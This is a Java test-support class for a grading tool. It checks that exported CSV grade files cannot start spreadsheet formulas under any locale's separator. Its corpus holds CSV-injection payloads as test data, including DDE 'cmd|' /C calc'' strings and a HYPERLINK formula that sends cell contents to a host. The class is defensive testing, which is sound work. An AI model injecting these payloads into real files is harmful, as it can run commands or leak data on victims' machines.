package tabuleiro.grading.report;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.StringReader;
import java.io.UncheckedIOException;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.regex.Pattern;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;

/**
 * Reads a CSV file of the grader as spreadsheets in every locale would: split at {@code ,}, at
 * {@code ;} (Excel and LibreOffice in Portuguese) or at tabs, once honouring the quotes (by
 * Apache Commons CSV, as lenient as a spreadsheet: text after a closing quote is kept, a quote
 * left open runs to the end) and once naively, line by line, ignoring them. Also holds the
 * corpus of hostile names and messages the writer's tests and every CSV file's tests write.
 */
public final class SpreadsheetReadings {

    /**
     * A hostile text, a student's name or a message, and the cell the grader writes for it:
     * what a reader honouring RFC 4180 reads back.
     *
     * @param text the text as the student wrote it
     * @param cell the cell the grader writes
     */
    public record Hostile(String text, String cell) {
    }

    /** U+2028, a line break outside ASCII. */
    public static final String LINE_SEPARATOR = Character.toString(0x2028);

    /** Names and messages meant to start a formula in some spreadsheet, or to break a row. */
    public static final List<Hostile> CORPUS = List.of(
            // The name: a formula after each ';' of continental Europe's separator.
            new Hostile("Ana;=1+1;@SUM(1+1);-2+3", "Ana;'=1+1;'@SUM(1+1);'-2+3"),
            new Hostile("=HYPERLINK(\"http://x/?\"&A1,\"click\")",
                    "'=HYPERLINK(\"http://x/?\"&A1,\"click\")"),
            new Hostile("Lima, -2+3,+cmd|' /C calc'!A0", "Lima, '-2+3,'+cmd|' /C calc'!A0"),
            new Hostile("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
            // OWASP's two: a quote closed early, then a separator.
            new Hostile("=1+2\";=1+2", "'=1+2\";'=1+2"),
            new Hostile("=1+2'\" ;,=1+2", "'=1+2'\" ;,'=1+2"),
            // Quotes and spaces a spreadsheet may drop before the formula.
            new Hostile("Ana;\" =1+1\"", "Ana;\" '=1+1\""),
            new Hostile("Ana,  \"\"@x", "Ana,  \"\"'@x"),
            // Tabs and line breaks: a space each, a row stays one line; a lone carriage return,
            // like every other control character, is shown as UntrustedText shows it.
            new Hostile("Ana\t=1+1", "Ana =1+1"),
            new Hostile("\t=1+1", " '=1+1"),
            new Hostile("\n-1", " '-1"),
            new Hostile("\r=1+1", "<U+000D>=1+1"),
            new Hostile("Ana\n-2+3\r\n@SUM(1)", "Ana -2+3 @SUM(1)"),
            // A separator at the end: the cell after it would start with a line break.
            new Hostile("Ana" + LINE_SEPARATOR + ";+1\u0000;", "Ana<U+2028>;'+1<U+0000>;'"),
            new Hostile("Ana Lima, ", "Ana Lima, '"),
            // Bidirectional controls shown, not obeyed: the letters in the order they are read.
            new Hostile("Ana\u202E;=1+1\u202C", "Ana<U+202E>;'=1+1<U+202C>"),
            new Hostile("\u2066=1+1\u2069", "<U+2066>=1+1<U+2069>"),
            new Hostile("\u202E1+1=", "<U+202E>1+1="),
            new Hostile("Ana;\u200F-1", "Ana;<U+200F>-1"),
            // Spaces and invisible characters a spreadsheet might drop before the formula.
            new Hostile("Ana;\u200B=1+1", "Ana;<U+200B>=1+1"),
            new Hostile("Ana;\u00A0-1", "Ana;\u00A0'-1"),
            // Lone surrogates: half a character, shown by its number.
            new Hostile("Ana\uD800;=1", "Ana<U+D800>;'=1"),
            new Hostile("\uDC00=1", "<U+DC00>=1"), // a low surrogate alone
            // Backslashes: PHP's fgetcsv, Moodle's reader, escapes a quote after one.
            new Hostile("Lima\\;=1+1\\", "Lima/;'=1+1/"),
            new Hostile("Ana \\\", x", "Ana /\", x"),
            // Already safe or plain: left as they are.
            new Hostile("'=1+1", "'=1+1"),
            new Hostile(";;,,=", ";;,,'="),
            new Hostile("-18.00", "'-18.00"),
            new Hostile("José Conceição-Sá O'Neil", "José Conceição-Sá O'Neil"),
            new Hostile("Refused, not graded: R1 -cmd; =2+5",
                    "Refused, not graded: R1 -cmd; '=2+5"));

    /** What a formula starts with (OWASP). */
    private static final String FORMULA_STARTS = "=+-@\t\r";

    /** A number a spreadsheet reads as a number, negative or not, never as a formula. */
    private static final Pattern NUMBER = Pattern.compile("-?\\d+(\\.\\d+)?");

    private static final List<Character> SEPARATORS = List.of(',', ';', '\t');

    private SpreadsheetReadings() {
    }

    /**
     * One way a spreadsheet reads the file.
     *
     * @param how which separator, with or without quotes
     * @param cells every cell it makes, row after row
     */
    public record Reading(String how, List<String> cells) {
    }

    /**
     * Reads the file every way.
     *
     * @param csv the file's text
     * @return one reading a separator with quotes honoured, and one a separator naively
     */
    public static List<Reading> readings(String csv) {
        List<Reading> readings = new ArrayList<>();
        for (char separator : SEPARATORS) {
            String name = separator == '\t' ? "tab" : "'" + separator + "'";
            List<String> quoted = new ArrayList<>();
            CSVFormat format = CSVFormat.RFC4180.builder().setDelimiter(separator)
                    .setTrailingData(true).setLenientEof(true).get();
            for (CSVRecord record : parse(csv, format)) {
                quoted.addAll(record.toList());
            }
            readings.add(new Reading(name + " honouring quotes", quoted));
            List<String> naive = new ArrayList<>();
            for (String line : csv.split("\r\n|\r|\n")) {
                naive.addAll(Arrays.asList(line.split(Pattern.quote(String.valueOf(separator)),
                        -1)));
            }
            readings.add(new Reading(name + " naively", naive));
        }
        return readings;
    }

    /**
     * Asserts that no reading of the file makes a cell that starts a formula: no cell, once
     * the spaces, double quotes and invisible characters a spreadsheet might drop are dropped,
     * starts with {@code =}, {@code +}, {@code -}, {@code @}, a tab or a carriage return, but
     * for a plain number (the grader's, such as a late penalty's {@code -18.00}).
     *
     * @param csv the file's text
     */
    public static void assertSafe(String csv) {
        for (Reading reading : readings(csv)) {
            assertThat(reading.cells()).as("cells split at %s", reading.how())
                    .allSatisfy(cell -> {
                        String start = visible(cell);
                        if (!start.isEmpty() && FORMULA_STARTS.indexOf(start.charAt(0)) >= 0) {
                            assertThat(start).as("a cell that starts a formula")
                                    .matches(NUMBER);
                        }
                    });
        }
    }

    /**
     * Reads the file as RFC 4180 says, strictly: the cells the grader meant.
     *
     * @param csv the file's text
     * @return its records, the header first
     */
    public static List<CSVRecord> records(String csv) {
        return parse(csv, CSVFormat.RFC4180);
    }

    /**
     * Reads the file as Moodle's "Import grades from CSV" does: PHP's {@code fgetcsv} with its
     * default escape, a backslash, which keeps a quote after it from closing a quoted cell.
     *
     * @param csv the file's text
     * @return its records, the header first
     */
    public static List<CSVRecord> moodleRecords(String csv) {
        return parse(csv, CSVFormat.RFC4180.builder().setEscape('\\').get());
    }

    /** The cell from its first character a spreadsheet would not drop. */
    private static String visible(String cell) {
        int start = 0;
        while (start < cell.length() && droppable(cell.charAt(start))) {
            start++;
        }
        return cell.substring(start);
    }

    private static boolean droppable(char c) {
        return Character.isWhitespace(c) && c != '\t' && c != '\r' || Character.isSpaceChar(c)
                || c == '"' || Character.getType(c) == Character.FORMAT;
    }

    private static List<CSVRecord> parse(String csv, CSVFormat format) {
        try (CSVParser parser = CSVParser.parse(new StringReader(csv), format)) {
            return parser.getRecords();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
